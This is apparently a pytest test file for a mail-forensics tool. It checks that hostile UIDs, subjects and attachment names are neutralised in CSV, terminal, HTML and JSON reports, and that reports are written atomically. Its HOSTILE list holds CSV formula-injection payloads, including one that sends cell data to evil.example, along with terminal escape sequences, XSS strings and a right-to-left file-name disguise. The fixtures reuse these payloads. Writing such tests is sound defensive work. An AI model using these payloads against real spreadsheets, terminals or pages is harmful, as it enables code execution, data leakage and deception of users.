"""Attacker-controlled text must not attack the analyst's tools through our reports.

UIDs come from the POP3 server and subjects and file names from senders. Every hostile
value below goes through every output format: CSV cells are neutralised against formula
injection (the exact value stays in JSON), terminal tables carry no raw control or escape
bytes, HTML carries no markup or script from the data, JSON keeps the exact raw values.
Reports are written atomically and never over an existing file without ``--force``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from fuzz.targets import has_command, run_cli  # noqa: E402

from uidl_inspector.history import build_blob, make_tag  # noqa: E402
from uidl_inspector.schemas.mapi import AttachMethod, PropId, PropType  # noqa: E402

# Formula prefixes (OWASP CSV injection, with the full-width forms), terminal escapes (CSI,
# OSC hyperlink and title, C0/C1 controls), markup, separators and quotes, a long value.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\uff1d1+2",  # FULLWIDTH EQUALS SIGN
    "\uff0bcmd",  # FULLWIDTH PLUS SIGN
    "\uff0d1",  # FULLWIDTH HYPHEN-MINUS
    "\uff20SUM(1)",  # FULLWIDTH COMMERCIAL AT
    "\x1b[31mRED\x1b[0m\x1b[2J",
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
    "\x1b]0;owned title\x07",
    "bell\x07back\x08del\x7fcsi\x9b31m",
    "<script>alert('uid')</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "quote\"comma,semi;pipe|'apos",
    "invoice\u202egpj.exe\u200b",  # as BIDI below
    "L" * 4000,
]
BIDI = "invoice\u202egpj.exe\u200b"  # RIGHT-TO-LEFT OVERRIDE, ZERO WIDTH SPACE: disguise
DANGEROUS_CSV_START = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
T0 = datetime(2024, 3, 1, 9, 30, 0)  # noqa: DTZ001 - BLOB times carry no zone
BAD_UTF8 = b"\xff\xfe\xc3(uid"


def _uids() -> list[str]:
    return [f"{i:02d}{text}" if i % 2 else text for i, text in enumerate(HOSTILE)]


def _blob() -> bytes:
    tags = [("get", "body", T0 + timedelta(minutes=i), uid) for i, uid in enumerate(_uids())]
    # Unescaped hostile bytes in the stored tag itself (a writer that broke the escaping).
    tags.append(make_tag("get", "body", T0, b"=cmd\x1b[31m<b>raw</b>", escaped=True))
    tags.append(("get", "body", T0, BAD_UTF8))
    return build_blob(tags)


@pytest.fixture(scope="module")
def hostile_blob(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("blob") / "hostile.blob"
    path.write_bytes(_blob())
    return path


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Path:
    """A PST whose Message Manager subject, attachment name, account and Inbox messages
    are hostile, with the hostile BLOB, and two copies of one message (for the audit)."""
    from uidl_inspector.synth.pst_writer import (
        AttachmentSpec,
        MessageSpec,
        Prop,
        StoreSpec,
        write_pst,
    )

    def s(value: str) -> Prop:
        return Prop(PropType.UNICODE, value)

    blob = _blob()
    spec = StoreSpec()
    inbox = next(f for f in spec.folders if f.name == "Inbox")
    inbox.name = "Inbox <b>\x1b[7m=1+1"
    manager = MessageSpec(
        props={
            PropId.MESSAGE_CLASS: s("IPM.MessageManager"),
            PropId.SUBJECT: s(f"Outlook Message Manager ({HOSTILE[0]}) (KEY: 0011)"),
        },
        attachments=[
            AttachmentSpec(
                props={
                    PropId.ATTACH_METHOD: Prop(PropType.INT32, AttachMethod.BY_VALUE),
                    PropId.ATTACH_SIZE: Prop(PropType.INT32, len(blob)),
                    PropId.RENDERING_POSITION: Prop(PropType.INT32, -1),
                    PropId.ATTACH_LONG_FILENAME: s("BlobPOP=evil\x1b[31m<i>@example.com"),
                    PropId.ATTACH_FILENAME: s("BlobPOP=evil\x1b[31m<i>@example.com"),
                },
                data=blob,
            )
        ],
    )
    inbox.associated.append(manager)
    when = datetime(2024, 3, 1, 9, 30, tzinfo=timezone.utc)
    subjects = [*HOSTILE[:8], BIDI]
    for i, subject in enumerate(subjects * 2):
        inbox.messages.append(
            MessageSpec(
                props={
                    PropId.MESSAGE_CLASS: s("IPM.Note"),
                    PropId.SUBJECT: s(subject),
                    PropId.SENDER_NAME: s(HOSTILE[12]),
                    PropId.INTERNET_MESSAGE_ID: s(
                        f"<{i % len(subjects)}.{HOSTILE[15]}@evil.example>"
                    ),
                    PropId.MESSAGE_DELIVERY_TIME: Prop(PropType.TIME, when + timedelta(hours=i)),
                }
            )
        )
    path = tmp_path_factory.mktemp("store") / "hostile.pst"
    write_pst(spec, path)
    return path


def _need(command: str) -> None:
    if not has_command(command):
        pytest.fail(f"the {command!r} command has not landed")


def _run(args: list[str]) -> tuple[int, str, str]:
    _need(args[0])
    result = run_cli(args)
    assert result is not None
    return result


# Command lines producing each format, as (command, input fixture name, extra args).
CSV_RUNS = [("blob", "hostile_blob", []), ("scan", "hostile_store", [])]
TABLE_RUNS = [
    ("blob", "hostile_blob", []),
    ("scan", "hostile_store", []),
    ("hidden", "hostile_store", []),
]
JSON_RUNS = [
    ("blob", "hostile_blob", []),
    ("scan", "hostile_store", []),
    ("hidden", "hostile_store", []),
    ("audit", "hostile_store", []),
]


def _report(request, tmp_path: Path, command: str, fixture: str, extra: list[str], fmt: str) -> str:
    source = request.getfixturevalue(fixture)
    out = tmp_path / f"out.{fmt}"
    code, stdout, stderr = _run(
        [command, str(source), "--format", fmt, "--output", str(out), *extra]
    )
    assert code == 0, stderr
    return out.read_bytes().decode("utf-8")  # no newline translation: CR is data here


# --- JSON: the exact raw values ----------------------------------------------------------


def test_json_keeps_every_hostile_uid_exactly(hostile_blob, tmp_path):
    out = tmp_path / "r.json"
    code, _, err = _run(["blob", str(hostile_blob), "--format", "json", "--output", str(out)])
    assert code == 0, err
    entries = json.loads(out.read_text(encoding="utf-8"))["histories"][0]["entries"]
    uids = [e["uid"] for e in entries]
    assert uids[: len(HOSTILE)] == _uids()
    assert entries[len(HOSTILE)]["raw_uid"] == "=cmd\x1b[31m<b>raw</b>"
    assert bytes.fromhex(entries[-1]["uid_hex"]) == BAD_UTF8


def test_json_keeps_hostile_subjects_and_names_exactly(hostile_store, tmp_path):
    out = tmp_path / "r.json"
    code, _, err = _run(["scan", str(hostile_store), "--format", "json", "--output", str(out)])
    assert code == 0, err
    report = json.loads(out.read_text(encoding="utf-8"))
    (history,) = report["histories"]
    assert history["location"]["subject"] == f"Outlook Message Manager ({HOSTILE[0]}) (KEY: 0011)"
    assert history["location"]["attachment_name"] == "BlobPOP=evil\x1b[31m<i>@example.com"
    assert history["location"]["folder"].endswith("Inbox <b>\x1b[7m=1+1")
    assert [e["uid"] for e in history["entries"]][: len(HOSTILE)] == _uids()


@pytest.mark.parametrize(("command", "fixture", "extra"), JSON_RUNS)
def test_json_is_valid_and_escapes_controls(request, tmp_path, command, fixture, extra):
    text = _report(request, tmp_path, command, fixture, extra, "json")
    json.loads(text)
    assert "\x1b" not in text and "\x07" not in text  # JSON escapes them as \u001b ...


# --- CSV: no cell can start a formula ----------------------------------------------------


@pytest.mark.parametrize(("command", "fixture", "extra"), CSV_RUNS)
def test_csv_cells_are_neutralised(request, tmp_path, command, fixture, extra):
    text = _report(request, tmp_path, command, fixture, extra, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > len(HOSTILE)
    width = len(rows[0])
    cells = [cell for row in rows for cell in row]
    assert all(len(row) == width for row in rows)  # separators and quotes stayed inside
    dangerous = [c for c in cells if c and c[0] in DANGEROUS_CSV_START]
    assert not dangerous, dangerous[:5]
    # Neutralised by a prefix, not by stripping: the value is still there after it.
    uid_cells = {c for c in cells}
    for uid in _uids():
        assert uid in uid_cells or any(c.endswith(uid) and len(c) == len(uid) + 1 for c in cells), (
            uid[:40]
        )


# --- terminal tables: no raw control or escape bytes -------------------------------------


def _controls(text: str) -> list[str]:
    """Raw controls (C0 but line feed, DEL, C1) and invisible format characters."""
    return sorted(
        {
            ch
            for ch in text
            if (ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) <= 0x9F or ch in "\u202e\u200b"
        }
    )


@pytest.mark.parametrize(("command", "fixture", "extra"), TABLE_RUNS)
def test_table_output_has_no_raw_control_bytes(request, command, fixture, extra):
    source = request.getfixturevalue(fixture)
    code, stdout, stderr = _run([command, str(source), "--format", "table", *extra])
    assert code == 0, stderr
    assert stdout.strip()
    assert not _controls(stdout), _controls(stdout)
    assert not _controls(stderr.replace("\n", "")), _controls(stderr)


# --- HTML: nothing from the data becomes markup ------------------------------------------


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def test_html_report_carries_no_injected_markup(hostile_store, tmp_path):
    _need("audit")
    out = tmp_path / "audit.html"
    code, _, err = _run(["audit", str(hostile_store), "--format", "html", "--output", str(out)])
    assert code == 0, err
    page = out.read_text(encoding="utf-8")
    parser = _Markup()
    parser.feed(page)
    for tag, attrs in parser.tags:
        for key, value in attrs:
            assert key not in {"onerror", "onload"}, (tag, key, value)
            assert "alert(" not in (value or ""), (tag, key, value)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, key)
    assert not any("alert(" in script for script in parser.scripts)
    assert "<script>alert('uid')</script>" not in page
    assert "&lt;script&gt;alert(" in page  # the subject/UID is shown, escaped
    # Controls and bidi overrides are shown, not left to hide or disguise text.
    assert not _controls(page.replace("\t", "")), _controls(page)
    assert "\\x1b[7m=1+1" in page and "invoice\\u202egpj.exe" in page


# --- atomic writes and --force -----------------------------------------------------------

WRITERS = [
    ("blob", "hostile_blob", "json"),
    ("scan", "hostile_store", "json"),
    ("scan", "hostile_store", "csv"),
    ("hidden", "hostile_store", "json"),
    ("audit", "hostile_store", "json"),
    ("audit", "hostile_store", "html"),
]


@pytest.mark.parametrize(("command", "fixture", "fmt"), WRITERS)
def test_existing_output_is_not_overwritten_without_force(request, tmp_path, command, fixture, fmt):
    source = request.getfixturevalue(fixture)
    out = tmp_path / f"report.{fmt}"
    out.write_text("precious analyst notes\n")
    code, stdout, stderr = _run([command, str(source), "--format", fmt, "--output", str(out)])
    assert code == 1
    assert len([line for line in stderr.splitlines() if line.strip()]) == 1
    assert out.read_text() == "precious analyst notes\n"
    code, _, stderr = _run([command, str(source), "--format", fmt, "--output", str(out), "--force"])
    assert code == 0, stderr
    assert out.read_text(encoding="utf-8") != "precious analyst notes\n"


class _Interrupted(KeyboardInterrupt):
    pass


@pytest.mark.parametrize(("command", "fixture", "fmt"), WRITERS)
def test_interrupted_write_leaves_no_half_report(
    request, tmp_path, monkeypatch, command, fixture, fmt
):
    """Interrupt the run at the moment the report would be put in place (rename, replace
    or hard link of a finished temporary): no file at the output path (so it was never
    written there directly), no temporary left behind, and with --force an existing
    report is left whole."""
    source = request.getfixturevalue(fixture)
    _need(command)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / f"report.{fmt}"

    def interrupt(*args, **kwargs):
        raise _Interrupted()

    def interrupted_run(args: list[str]) -> None:
        """The run stops as an interrupted run must: exit 130, one line, no traceback."""
        from typer.testing import CliRunner

        from uidl_inspector.cli import app

        with monkeypatch.context() as patch:
            for name in ("replace", "rename", "link"):
                patch.setattr(os, name, interrupt)
            result = CliRunner().invoke(app, args, catch_exceptions=True)
        assert result.exit_code == 130, (result.exit_code, result.stderr[-300:])
        assert [line for line in result.stderr.splitlines() if line.strip()] == [
            "uidl-inspector: error: interrupted"
        ]

    interrupted_run([command, str(source), "--format", fmt, "--output", str(out)])
    assert sorted(p.name for p in out_dir.iterdir()) == []

    out.write_text("previous report\n")
    interrupted_run([command, str(source), "--format", fmt, "--output", str(out), "--force"])
    assert sorted(p.name for p in out_dir.iterdir()) == [out.name]
    assert out.read_text() == "previous report\n"
